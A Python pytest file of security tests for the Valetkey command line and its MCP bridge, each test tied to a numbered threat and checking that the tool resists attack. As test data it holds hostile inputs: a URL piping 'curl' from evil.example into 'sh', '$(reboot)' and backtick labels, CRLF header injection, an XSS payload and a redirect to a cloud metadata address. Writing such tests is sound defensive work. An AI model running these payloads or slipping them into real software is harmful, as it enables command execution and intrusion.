# SPDX-FileCopyrightText: 2026 The Valetkey authors
# SPDX-License-Identifier: Apache-2.0

"""Attacks on the command line and its bridge: through a terminal, a list of processes, files, and the MCP server."""

import asyncio
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import httpx2
import pytest

from tests.adapters.server import Answer, McpServer
from tests.cli.bridge.scene import URL, Endless, Scene, answer, events, message, opened
from tests.cli.commands import CommandLine, with_login_page
from tests.doctor.wire import GOOD, RESOURCE, examined, resource
from tests.doctor.wire import answer as wire_answer
from tests.fakes.threads import LONGEST_WAIT
from tests.fakes.world import a_session
from tests.login.terminal import Terminal
from tests.migrate.files import write
from valetkey._cli.bridge import start_login
from valetkey._cli.bridge.bodies import LONGEST
from valetkey._cli.bridge.flags import Flags, headers_of, require_address, settings_of
from valetkey._cli.bridge.start_login import StartLogin
from valetkey._cli.completion import complete_label, complete_url
from valetkey._cli.doctor.page import page
from valetkey._cli.outcome import CommandFailed, ExitCode
from valetkey._sessions.codec import encode_session, session_key
from valetkey._sessions.listing import list_sessions
from valetkey.migrate.mcp_remote import Invocation
from valetkey.settings.settings import Settings
from valetkey.store import open_store

EVIL = "\x1b[2J\x9b31m\u202e[bold red]"
MOVES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
PROGRAM = "import sys; sys.argv[0] = 'valetkey'; from valetkey.__main__ import main; main()"
CANARY = "G7f2kLm9qRs-tUvXwXyZ4"


@pytest.fixture
def valetkey(tmp_path):
    return CommandLine(tmp_path / "sessions.db")


@pytest.fixture
def server():
    with McpServer() as running:
        yield with_login_page(running)


@pytest.fixture
def logged_in(valetkey, server):
    assert valetkey("login", server.url).code == 0
    return valetkey


def test_a_terminal_shows_no_token_by_accident(logged_in, server):
    """Threat L1."""
    with Terminal(PROGRAM, "token", server.url, environment=logged_in.environment) as terminal:
        assert terminal.process.wait(LONGEST_WAIT) == ExitCode.USAGE
        terminal.sees("give --show")
        assert "access-" not in terminal.shown


def test_no_secret_is_taken_from_an_argument_or_repeated(valetkey, server):
    """Threat L2."""
    given = ("--client-id", "mine", "--client-secret", CANARY, "--issuer", server.origin)
    for command in ("login", "doctor"):
        done = valetkey(command, server.url, *given)
        assert done.code == ExitCode.USAGE
        assert CANARY not in done.out + done.err
    assert server.seen == []


def test_the_process_of_a_login_gets_the_flags_where_no_other_user_reads_them(monkeypatch):
    """The flags may hold a secret. Threat L3."""
    started = []

    class Process:
        stdin = stdout = stderr = None

        def __init__(self, program, **options):
            started.append((program, options))

    monkeypatch.setattr(subprocess, "Popen", Process)

    async def begin():
        StartLogin(Flags(url=f"https://mcp.example.com/$(touch x)?{CANARY}", header=(CANARY,)), "browser")._begin()

    asyncio.run(begin())
    ((program, options),) = started
    assert CANARY not in " ".join([*program, *map(str, options.values())])
    assert isinstance(program, list)
    assert not options.get("shell")
    assert options["stdin"] == subprocess.PIPE


def test_the_process_of_a_login_runs_no_file_of_the_folder_that_a_client_starts_in(tmp_path):
    """Threat L4."""
    (tmp_path / "json.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    environment = {name: value for name, value in os.environ.items() if name != "PYTHONSAFEPATH"}
    subprocess.run(
        start_login._PROGRAM,
        cwd=tmp_path,
        env=environment,
        input=b"{}",
        capture_output=True,
        timeout=LONGEST_WAIT,
        check=False,
    )
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("arguments", [("status", "--trace"), ("doctor", "http://127.0.0.1:9/mcp", "--html")])
def test_no_file_is_written_through_a_link_of_another_user(valetkey, tmp_path, monkeypatch, arguments):
    """Threat L5."""
    (tmp_path / "mine").write_text("precious")
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "mine")
    real = os.lstat

    def of_another(path, **options):
        found = real(path, **options)
        return os.stat_result((*found[:4], 4711, *found[5:])) if Path(path) == link else found

    monkeypatch.setattr(os, "lstat", of_another)
    assert valetkey(*arguments, link).code == ExitCode.USAGE
    assert (tmp_path / "mine").read_text() == "precious"


def test_what_a_tool_answers_moves_no_cursor_of_a_terminal():
    """Threat L6."""
    code = f"from valetkey._cli.call import _for_reader; print(_for_reader({EVIL!r} + 'end'))"
    with Terminal(code) as terminal:
        terminal.sees("end")
    assert MOVES.search(terminal.shown) is None


def speaking(server, **results):
    """Let a server speak MCP and give these results."""

    def say(seen):
        if not server.authorization.accepts(seen.token or ""):
            return server.rejects(seen)
        asked = json.loads(seen.body or b"{}")
        if "id" not in asked:
            return Answer(202, (), b"")
        opening = {
            "protocolVersion": "2025-06-18",
            "capabilities": {"tools": {}},
            "serverInfo": {"name": "", "version": ""},
        }
        result = {"initialize": opening, **results}.get(asked["method"], {})
        said = {"jsonrpc": "2.0", "id": asked["id"], "result": result(seen.token) if callable(result) else result}
        return Answer(200, (("Content-Type", "application/json"),), json.dumps(said).encode())

    server.routes["/mcp"] = say


def tools_named(text):
    return {"tools": [{"name": text, "description": text, "inputSchema": {"type": "object", "properties": {text: {}}}}]}


@pytest.mark.parametrize("as_json", [False, True])
def test_what_a_server_names_moves_no_cursor_and_is_no_markup(logged_in, server, as_json):
    """Threat L7."""
    speaking(server, **{"tools/list": tools_named(EVIL)})
    done = logged_in("tools", server.url, *["--json"] * as_json)
    assert done.code == ExitCode.DONE
    assert "[bold red]" in done.out
    assert MOVES.search(done.out + done.err) is None


def test_no_token_that_a_server_repeats_is_printed(logged_in, server):
    """Threat L8."""
    tokens = []

    def repeating(token):
        tokens.append(token)
        return tools_named(f"the token is {token}")

    speaking(server, **{"tools/list": repeating})
    done = logged_in("call", server.url, "none")
    assert done.code == ExitCode.USAGE
    assert tokens
    done = logged_in("tools", server.url)
    assert done.code == ExitCode.DONE
    assert not any(token in done.out + done.err for token in tokens)


HOSTILE = "</pre><script>alert(1)</script><img src=https://evil.example/x onerror=alert(1)>\u202e"


@pytest.mark.parametrize(
    "said",
    [
        resource(resource=f"https://mcp.example.com/{HOSTILE}"),
        wire_answer(404, HOSTILE, content_type=f"text/{HOSTILE[:-1]}"),
    ],
    ids=["a document", "a page"],
)
def test_the_page_of_the_doctor_runs_and_loads_nothing_that_a_server_sends(said):
    """Threat L9."""
    written = page(examined({**GOOD, f"GET {RESOURCE}": said}))
    assert "alert(1)" in written
    assert "<script" not in written
    assert "<img" not in written
    assert "\u202e" not in written
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', written)
    assert policy is not None
    assert policy[1].startswith("default-src 'none'; style-src 'sha256-")


@pytest.mark.parametrize("kind", ["application/json", "text/event-stream"])
def test_a_message_without_end_fills_no_memory_of_a_bridge(kind):
    """Threat L10."""
    body = Endless(b'data: {"a":"' if kind == "text/event-stream" else b'{"a":"')

    async def play():
        def handle(request):
            if request.method == "GET":
                return httpx2.Response(405)
            return httpx2.Response(200, headers={"Content-Type": kind}, content=aiter(body))

        async with Scene(handle) as scene:
            assert "error" in await scene.answered(1, "initialize")

    asyncio.run(play())
    assert body.size <= LONGEST + 2_000_000


FLOOD = """
import asyncio, os, sys
from valetkey._cli.bridge.stdio import Stdio

async def play():
    stdio, count = Stdio(), 0
    stdio.start(lambda line: None)

    async def flood():
        nonlocal count
        while count < 60:
            await stdio.write("a" * 1_000_000)
            count += 1

    task = asyncio.ensure_future(flood())
    await asyncio.sleep(0)  # it ends, or waits
    os.write(2, f"{count}".encode())
    os._exit(0)

asyncio.run(play())
"""


def test_messages_without_end_wait_at_the_server_while_a_client_does_not_read():
    """Threat L11."""
    done = subprocess.Popen([sys.executable, "-c", FLOOD], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    with done as process:
        assert process.wait(LONGEST_WAIT) == 0
        assert 8 <= int(process.stderr.read()) < 12


@pytest.mark.parametrize("place", ["session", "event"])
def test_an_id_that_a_server_names_adds_no_header_field(place):
    """Threat L12."""
    odd = "one\x1b[2J two"

    async def play():
        fields = []

        def handle(request):
            fields.extend(request.headers.raw)
            if request.method == "GET":
                return events(f"id: {odd}\ndata:\n\n") if len(fields) < 60 else httpx2.Response(405)
            said = message(request)
            if said["method"] == "initialize":
                response = opened(request)
                if place == "session":
                    kept = [each for each in response.headers.raw if each[0].lower() != b"mcp-session-id"]
                    raw = [*kept, (b"Mcp-Session-Id", odd.encode())]
                    return httpx2.Response(200, headers=raw, content=response.content)
                return response
            return events(f"id: {odd}\ndata:\n\n") if "id" in said else httpx2.Response(202)

        async with Scene(handle) as scene:
            await scene.open()
            await scene.answered(1, "tools/call", name="t")
        return [value for name, value in fields if name.lower() in (b"mcp-session-id", b"last-event-id")]

    assert not any(b"two" in value for value in asyncio.run(play()))


def test_a_message_goes_to_no_other_origin_than_the_one_that_the_user_named():
    """Threat L13."""

    async def redirected():
        def handle(request):
            if request.url.host == "mcp.example.com":
                return httpx2.Response(307, headers={"Location": "http://169.254.169.254/mcp"})
            return httpx2.Response(200, json=answer(message(request)["id"]))

        async with Scene(handle, transports=("http",)) as scene:
            assert "error" in await scene.answered(1, "ping")
        return {request.url.host for request in scene.requests}

    async def named():
        def handle(request):
            if request.method == "GET":
                return events("event: endpoint\ndata: http://169.254.169.254/messages\n\n")
            return httpx2.Response(404)

        async with Scene(handle, transports=("sse",)) as scene:
            assert "error" in await scene.answered(1, "ping")
        return {request.url.host for request in scene.requests}

    assert asyncio.run(redirected()) == {"mcp.example.com"}
    assert asyncio.run(named()) == {"mcp.example.com"}


def test_a_credential_in_a_header_goes_with_no_request_of_the_login():
    """Threat L14."""
    flags = Flags(url=URL, header=(f"Authorization: Bearer {CANARY}", "X-Gate: open"))
    network = settings_of(flags, headers_of(flags)).network
    assert {origin: dict(fields).keys() for origin, fields in network.headers} == {
        "https://mcp.example.com": {"X-Gate"}
    }
    assert CANARY not in repr(network)


@pytest.mark.parametrize("value", ["open\r\nHost: evil.example", "open\nX: y", "a\x1bb"])
def test_a_variable_adds_no_header_field(monkeypatch, value):
    """Threat L15."""
    monkeypatch.setenv("GATE", value)
    with pytest.raises(CommandFailed) as failed:
        headers_of(Flags(url=URL, header=("X-Gate: ${GATE}",)))
    assert "evil" not in failed.value.message


@pytest.mark.parametrize("url", ["http://mcp.example.com/mcp", "HTTP://10.0.0.1/mcp", "http://127.0.0.1.example/mcp"])
def test_a_token_goes_over_no_open_line_unless_the_user_says_so(url):
    """Threat L16."""
    with pytest.raises(CommandFailed, match="not encrypted"):
        require_address(Flags(url=url))


HOSTILE_FILES = {
    "deep": "[" * 100_000,
    "huge": '{"access_token": "' + "a" * 3_000_000 + '"}',
    "control": json.dumps({"access_token": f"a{EVIL}", "token_type": "Bearer"}),
    "a list": "[]",
}


@pytest.mark.parametrize("kind", HOSTILE_FILES)
def test_a_file_of_another_program_that_is_none_makes_no_session(valetkey, server, tmp_path, kind):
    """Threat L18."""
    folder = write(tmp_path / "auth", HOSTILE_FILES[kind], invocation=Invocation(server.url))
    done = valetkey("import", "mcp-remote", server.url, "--folder", folder)
    assert done.code == ExitCode.MALFORMED
    assert done.err.count("\n") == 2
    assert MOVES.search(done.err) is None
    assert list_sessions(open_store(valetkey.store)) == []


def test_what_is_completed_has_no_meaning_for_a_shell(valetkey):
    """Threat L17."""
    hostile = "https://mcp.example.com/mcp;curl${IFS}evil.example|sh"
    for url, label in ((URL, "work"), (hostile, "default"), (URL, "$(reboot)"), (URL, "a b"), (URL, "`id`")):
        settings = Settings(url=url, label=label)
        record = encode_session(a_session(), {"url": settings.server_url, "principal": "local", "label": label})
        open_store(valetkey.store).put(session_key(settings), record)
    assert len(list_sessions(open_store(valetkey.store))) == 5
    context = SimpleNamespace(params={"store": valetkey.store}, args=[])
    assert complete_url(context, "") == [URL]
    assert complete_label(context, "") == ["default", "work"]
